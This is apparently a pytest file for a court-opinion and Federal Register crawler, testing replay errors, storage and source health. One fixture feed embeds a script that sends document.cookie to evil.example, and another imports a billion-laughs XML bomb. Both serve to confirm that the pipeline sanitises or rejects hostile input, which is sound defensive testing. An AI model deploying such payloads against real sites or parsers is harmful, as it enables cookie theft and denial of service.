"""Crawl, store, record: the promises of ``run_and_store`` and of replay (real Scrapy, real SQLite)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from core.db import make_engine
from core.models import CrawlRun, Item, OutboxEntry, Source
from crawlers.errors import ReplayError, UnknownSourceError
from crawlers.pipeline import run_and_store
from crawlers.registry import get_source
from crawlers.runner import crawl_in_subprocess
from crawlers.runs import record_run
from tests.crawlers.conftest import CAFC_FEED, FR_DOCUMENT
from tests.crawlers.test_parsing import BILLION_LAUGHS

SCRIPT_FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Opinion-Order</title><link>https://cafc.uscourts.gov</link><description/>
<item>
  <title>24-1234: ACME LTD. v. WIDGET CORP. [OPINION], Precedential</title>
  <link>https://cafc.uscourts.gov/24-1234-acme-v-widget/</link>
  <guid isPermaLink="false">https://cafc.uscourts.gov/?p=1</guid>
  <pubDate>Mon, 05 Feb 2024 16:00:00 +0000</pubDate>
  <description>Appeal Number: 24-1234 Origin: ZZZ</description>
  <content:encoded><![CDATA[<p>OPINION Posted:</p><script>document.location='https://evil.example/'+document.cookie</script>
  <style>body {display:none}</style><p>Appeal Number: 24-1234<br/>Origin: ZZZ</p>]]></content:encoded>
</item>
</channel></rss>
"""


def count(session: Session, model: type[object], **where: object) -> int:
    query = select(func.count()).select_from(model).filter_by(**where)
    return session.scalar(query) or 0


def write(tmp_path: Path, name: str, content: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


@pytest.mark.parametrize(
    ("source_id", "name", "content", "reason"),
    [
        ("federal_register", "broken.json", '{"results": [', "not valid JSON"),
        ("federal_register", "shape.json", '{"foo": 1}', "not a documents.json page"),
        ("federal_register", "page.xml", "<html><body/></html>", "XML root <html> is not"),
        ("cafc_opinions", "broken.xml", "<rss><channel>", "not well-formed XML"),
        ("cafc_opinions", "bomb.xml", BILLION_LAUGHS, "XML declares entity 'lol'"),
    ],
)
def test_malformed_replay_raises_one_line_naming_file_and_reason(
    source_id: str, name: str, content: bytes | str, reason: str, tmp_path: Path, data_dir: Path
) -> None:
    path = write(tmp_path, name, content)
    with pytest.raises(ReplayError) as caught:
        crawl_in_subprocess(source_id, path)
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith(f"{path}: ") and reason in message


def test_missing_replay_path_is_a_replay_error(tmp_path: Path, data_dir: Path) -> None:
    with pytest.raises(ReplayError, match=r"nowhere\.json: no such file or folder"):
        crawl_in_subprocess("federal_register", tmp_path / "nowhere.json")


def test_replay_stores_items_once_and_marks_the_source_healthy(database_url: str) -> None:
    outcome, first = run_and_store(
        "cafc_opinions", CAFC_FEED, in_subprocess=True, database_url=database_url
    )
    assert len(outcome.items) == 100 and first.new == 100 and not outcome.failed
    _, second = run_and_store(
        "cafc_opinions", CAFC_FEED, in_subprocess=True, database_url=database_url
    )
    assert (second.new, second.changed, second.unchanged) == (0, 0, 100)
    with Session(make_engine(database_url)) as session:
        assert count(session, Item) == 100 and count(session, OutboxEntry) == 100
        runs = session.scalars(select(CrawlRun).order_by(CrawlRun.id)).all()
        assert [(r.status, r.replay, r.items_seen, r.items_new) for r in runs] == [
            ("ok", True, 100, 100),
            ("ok", True, 100, 0),
        ]
        assert runs[0].http_statuses == {"200": 1}
        source = session.get_one(Source, "cafc_opinions")
        assert source.healthy is True and source.items_count == 100 and source.last_success_at


def test_malformed_replay_stores_nothing_and_loses_nothing(
    database_url: str, tmp_path: Path
) -> None:
    run_and_store("cafc_opinions", CAFC_FEED, in_subprocess=True, database_url=database_url)
    folder = tmp_path / "replay"
    folder.mkdir()
    shutil.copy(FR_DOCUMENT, folder / "a_good_document.json")
    write(folder, "b_broken.json", '{"results": [')
    with pytest.raises(ReplayError, match=r"b_broken\.json: not valid JSON"):
        run_and_store("federal_register", folder, in_subprocess=True, database_url=database_url)
    with Session(make_engine(database_url)) as session:
        assert count(session, Item, source_id="cafc_opinions") == 100
        assert count(session, Item, source_id="federal_register") == 0, (
            "a good file in a bad replay"
        )
        run = session.scalars(select(CrawlRun).filter_by(source_id="federal_register")).one()
        assert run.status == "failed" and "b_broken.json" in (run.reason or "")
        assert run.items_new == 0 and any(e["kind"] == "payload" for e in run.errors)
        source = session.get_one(Source, "federal_register")
        assert source.healthy is False
        reason = source.health_reason or ""
        assert reason.startswith("replayed from a saved response") and "not valid JSON" in reason
        assert str(tmp_path) not in reason, "the public sources page shows no local path"


def test_replay_of_the_wrong_file_leaves_a_live_source_healthy(
    database_url: str, tmp_path: Path
) -> None:
    outcome, _ = run_and_store(
        "cafc_opinions", CAFC_FEED, in_subprocess=True, database_url=database_url
    )
    live = outcome.model_copy(update={"replay": None})  # as a crawl of the live site yields
    with Session(make_engine(database_url)) as session, session.begin():
        record_run(session, get_source("cafc_opinions"), live, None)
    with Session(make_engine(database_url)) as session:
        before = session.get_one(Source, "cafc_opinions")
        healthy_at = (before.last_success_at, before.last_run_at)
    wrong = tmp_path / "fr_document.json"
    shutil.copy(FR_DOCUMENT, wrong)
    with pytest.raises(ReplayError, match=r"fr_document\.json"):
        run_and_store("cafc_opinions", wrong, in_subprocess=True, database_url=database_url)
    with Session(make_engine(database_url)) as session:
        source = session.get_one(Source, "cafc_opinions")
        assert source.healthy is True and source.health_reason is None
        assert (source.last_success_at, source.last_run_at) == healthy_at
        last = session.scalars(select(CrawlRun).order_by(CrawlRun.id.desc())).first()
        assert last is not None and (last.status, last.replay) == ("failed", True)
        assert "fr_document.json" in (last.reason or ""), "the operator's record keeps the file"


def test_script_is_stripped_and_too_few_items_make_the_source_unhealthy(
    database_url: str, tmp_path: Path
) -> None:
    feed = write(tmp_path, "one_entry.xml", SCRIPT_FEED)
    outcome, result = run_and_store(
        "cafc_opinions", feed, in_subprocess=True, database_url=database_url
    )
    [item] = outcome.items
    assert item.body == "OPINION Posted:\n\nAppeal Number: 24-1234\nOrigin: ZZZ"
    assert "evil" not in item.body and "display" not in item.body
    assert item.case_refs == ["CAFC 24-1234"] and item.ip_types == []
    assert any("cafc_origin: 'ZZZ' not in the lookup table" in e for e in outcome.errors)
    assert result.new == 1
    with Session(make_engine(database_url)) as session:
        source = session.get_one(Source, "cafc_opinions")
        assert source.healthy is False
        assert source.health_reason == (
            "replayed from a saved response; last run found 1 items; at least 10 expected"
        )
        assert session.scalars(select(CrawlRun)).one().status == "ok"


def test_unknown_source_is_refused_before_anything_runs(database_url: str) -> None:
    with pytest.raises(
        UnknownSourceError, match=r"known sources: cafc_opinions, .*federal_register"
    ):
        run_and_store("no_such_source", database_url=database_url)
